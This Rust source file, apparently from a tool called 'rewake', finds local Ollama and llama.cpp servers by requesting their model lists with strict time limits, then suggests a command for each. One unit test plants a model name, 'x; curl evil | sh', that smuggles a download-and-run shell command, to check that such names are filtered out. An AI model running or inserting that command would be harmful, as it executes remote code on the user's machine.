//! Model servers on this machine, found by requesting their lists of models.
//!
//! Each server gets one small request over plain HTTP/1.0, all at the same time. A local server
//! answers at once or not at all, so a caller waits at most [`PATIENCE`], whatever a server does.
//! These functions block: do not call them from a thread that must not wait.

use std::io::{Read, Write};
use std::net::{SocketAddr, TcpStream, ToSocketAddrs};
use std::sync::mpsc;
use std::thread;
use std::time::{Duration, Instant};

use reqwest::Url;

use crate::config::Config;
use crate::core::half_character::read_lenient;
use crate::core::text::{count, one_line};
use crate::net::address::is_loopback;

/// Time limit for one server, from resolving its name to the end of its answer.
const PATIENCE: Duration = Duration::from_millis(600);

const MAX_ANSWER_BYTES: u64 = 1 << 20;

const MAX_MODELS: usize = 20;

/// Maximum length of a model's name in a sentence.
const MAX_SHOWN: usize = 200;

/// A server that was searched.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct LocalServer {
    pub name: &'static str,
    /// Address of the server, without a path.
    pub base: String,
    /// Models as `provider/model`. `None`: no server answers there.
    pub models: Option<Vec<String>>,
    /// Command that makes the server ready.
    pub hint: &'static str,
}

/// A kind of server.
struct Kind {
    name: &'static str,
    /// Name of the provider in the config, the first part of `provider/model`.
    provider: &'static str,
    /// Path of its list of models.
    path: &'static str,
    hint: &'static str,
}

const KINDS: [Kind; 2] = [
    Kind {
        name: "ollama",
        provider: "ollama",
        path: "/api/tags",
        hint: "ollama serve, then ollama pull a model that can call tools",
    },
    Kind {
        name: "llama.cpp",
        provider: "llamacpp",
        path: "/v1/models",
        hint: "llama-server --jinja -m MODEL.gguf",
    },
];

/// Returns a sentence for each server that answers on this machine, with the command that uses it.
/// Servers of other machines are not asked.
pub fn running_servers(config: &Config) -> Vec<String> {
    let is_here = |base: &str| Url::parse(base).is_ok_and(|url| is_loopback(&url));
    let servers = asked_servers(config, is_here).into_iter();
    let sentence = |server: LocalServer| {
        let LocalServer { name, base, .. } = server;
        let models = server.models?;
        let has = count(models.len(), "model");
        // Whatever listens at the port names its models. Nobody should paste anything else of it.
        let is_plain = |c: char| c.is_ascii_alphanumeric() || "._:/@+-".contains(c);
        let model = models.first().filter(|model| model.chars().all(is_plain));
        let command = model.map(|model| one_line(model, MAX_SHOWN));
        let command = command.map_or(server.hint.to_string(), |m| format!("rewake -m {m}"));
        Some(format!("{name} answers at {base} with {has}: {command}"))
    };
    servers.filter_map(sentence).collect()
}

/// Returns the servers of each kind, at the addresses in the config or at the default ones.
pub fn local_servers(config: &Config) -> Vec<LocalServer> {
    asked_servers(config, |_| true)
}

fn asked_servers(config: &Config, is_asked: impl Fn(&str) -> bool) -> Vec<LocalServer> {
    let started = KINDS.into_iter().filter_map(|kind| {
        let base = config.provider(kind.provider).ok()?.base_url;
        let base = base.trim_end_matches('/').trim_end_matches("/v1");
        let (base, path) = (base.to_string(), kind.path);
        is_asked(&base).then(|| (kind, ask(base.clone(), path), base))
    });
    // All are asked before the first answer is waited for.
    let asked: Vec<_> = started.collect();
    let end = Instant::now() + PATIENCE;
    let server = |(kind, answer, base): (Kind, mpsc::Receiver<Option<Vec<String>>>, String)| {
        let left = end.saturating_duration_since(Instant::now());
        let models = answer.recv_timeout(left).ok().flatten();
        let full = |model: String| format!("{}/{model}", kind.provider);
        LocalServer {
            name: kind.name,
            base,
            models: models.map(|models| models.into_iter().map(full).collect()),
            hint: kind.hint,
        }
    };
    asked.into_iter().map(server).collect()
}

/// Asks a server on a separate thread, because resolving a name has no timeout that could be set.
fn ask(base: String, path: &'static str) -> mpsc::Receiver<Option<Vec<String>>> {
    let (sender, answer) = mpsc::sync_channel(1);
    let work = move || drop(sender.send(models(&base, path, Instant::now() + PATIENCE)));
    if let Err(error) = thread::Builder::new().name("discover".into()).spawn(work) {
        tracing::warn!(%error, "a local server was not asked");
    }
    answer
}

fn models(base: &str, path: &str, end: Instant) -> Option<Vec<String>> {
    let host = base.strip_prefix("http://")?.split('/').next()?;
    let address = if host.contains(':') {
        host.to_string()
    } else {
        format!("{host}:80")
    };
    let address = address.to_socket_addrs().ok()?.next()?;
    listed(&answer(address, host, path, end)?)
}

/// Returns the body of the answer. Does not wait for data beyond the limits.
fn answer(address: SocketAddr, host: &str, path: &str, end: Instant) -> Option<String> {
    // A timeout of zero would mean no limit.
    let left = || Some(end.saturating_duration_since(Instant::now())).filter(|t| !t.is_zero());
    let mut stream = TcpStream::connect_timeout(&address, left()?).ok()?;
    stream.set_write_timeout(left()).ok()?;
    // The request is sent in one write, because some servers answer and close after the first
    // piece.
    let request = format!("GET {path} HTTP/1.0\r\nHost: {host}\r\n\r\n");
    stream.write_all(request.as_bytes()).ok()?;
    let mut answer = Vec::new();
    let mut stream = stream.take(MAX_ANSWER_BYTES);
    let mut chunk = [0; 8 << 10];
    loop {
        stream.get_ref().set_read_timeout(Some(left()?)).ok()?;
        match stream.read(&mut chunk).ok()? {
            0 => break,
            n => answer.extend_from_slice(&chunk[..n]),
        }
    }
    let text = String::from_utf8_lossy(&answer);
    let (_, body) = text.split_once("\r\n\r\n")?;
    Some(body.to_string())
}

/// Parses `{"models": [{"name": …}]}` (Ollama) or `{"data": [{"id": …}]}` (OpenAI).
fn listed(body: &str) -> Option<Vec<String>> {
    let value = read_lenient(body.as_bytes()).ok()?;
    let list = value
        .get("models")
        .or_else(|| value.get("data"))?
        .as_array()?;
    let name = |model: &serde_json::Value| {
        let name = model.get("name").or_else(|| model.get("id"))?;
        Some(name.as_str()?.to_string())
    };
    Some(list.iter().filter_map(name).take(MAX_MODELS).collect())
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::config::ProviderEntry;
    use std::net::TcpListener;

    /// A server that answers one request in its own way; its address.
    fn server(answers: impl FnOnce(TcpStream) + Send + 'static) -> String {
        let listener = TcpListener::bind("127.0.0.1:0").unwrap();
        let address = listener.local_addr().unwrap();
        thread::spawn(move || {
            let (mut stream, _) = listener.accept().unwrap();
            let mut request = [0; 1024];
            let _ = stream.read(&mut request);
            answers(stream);
        });
        format!("http://{address}")
    }

    fn ollama_at(base: &str) -> LocalServer {
        let mut config = Config::default();
        let entry = ProviderEntry {
            base_url: Some(format!("{base}/v1")),
            ..ProviderEntry::default()
        };
        config.providers.insert("ollama".into(), entry);
        local_servers(&config).remove(0)
    }

    #[test]
    fn a_running_server_is_named_with_its_command() {
        let answer = |mut stream: TcpStream, name: &str| {
            let body = format!("{{\"models\": [{{\"name\": \"{name}\"}}]}}");
            write!(stream, "HTTP/1.0 200 OK\r\n\r\n{body}").unwrap();
        };
        let base = server(move |stream| answer(stream, "q3"));
        let named = |base: &str| {
            let mut config = Config::default();
            for (name, base) in [("ollama", base), ("llamacpp", "http://127.0.0.1:1")] {
                let base_url = Some(format!("{base}/v1"));
                let entry = ProviderEntry {
                    base_url,
                    ..ProviderEntry::default()
                };
                config.providers.insert(name.into(), entry);
            }
            running_servers(&config)
        };
        let sentences = named(&base);
        assert_eq!(sentences.len(), 1, "{sentences:?}");
        let begin = format!("ollama answers at {base} with 1 model: rewake -m ollama/q3");
        assert_eq!(sentences, [begin]);
        // Nobody pastes the name that it gave into a shell.
        let base = server(move |stream| answer(stream, "x; curl evil | sh"));
        let sentences = named(&base);
        assert!(
            sentences[0].contains("1 model: ollama serve"),
            "{sentences:?}"
        );
        // Not asked at all.
        assert_eq!(named("http://192.0.2.1"), [""; 0]);
    }

    #[test]
    fn a_server_is_known_by_its_models() {
        let many: Vec<String> = (0..30).map(|n| format!("{{\"name\": \"m{n}\"}}")).collect();
        let body = format!("{{\"models\": [{}]}}", many.join(","));
        let base = server(move |mut stream| {
            write!(stream, "HTTP/1.0 200 OK\r\n\r\n{body}").unwrap();
        });
        let found = ollama_at(&base);
        assert_eq!((found.name, found.base), ("ollama", base));
        let models = found.models.unwrap();
        assert_eq!(
            (models.len(), models[0].as_str()),
            (MAX_MODELS, "ollama/m0")
        );
        assert_eq!(
            listed("{\"data\": [{\"id\": \"a\"}, {}]}"),
            Some(vec!["a".to_string()])
        );
        assert_eq!(listed("<html>"), None);
    }

    /// With a limit for each read alone, one byte now and then is waited for without end.
    #[test]
    fn a_server_that_never_comes_to_an_end_is_not_waited_for() {
        let (done, waits) = mpsc::channel::<()>();
        let base = server(move |mut stream| {
            let pause = Duration::from_millis(20);
            while stream.write_all(b" ").is_ok() {
                if waits.recv_timeout(pause) != Err(mpsc::RecvTimeoutError::Timeout) {
                    return;
                }
            }
        });
        // The server is still at it when the answer is given up.
        assert_eq!(ollama_at(&base).models, None);
        drop(done);
    }

    #[test]
    fn where_nothing_listens_there_is_none() {
        let closed = TcpListener::bind("127.0.0.1:0").unwrap();
        let base = format!("http://{}", closed.local_addr().unwrap());
        drop(closed);
        assert_eq!(ollama_at(&base).models, None);
        assert_eq!(ollama_at("https://127.0.0.1").models, None);
    }
}
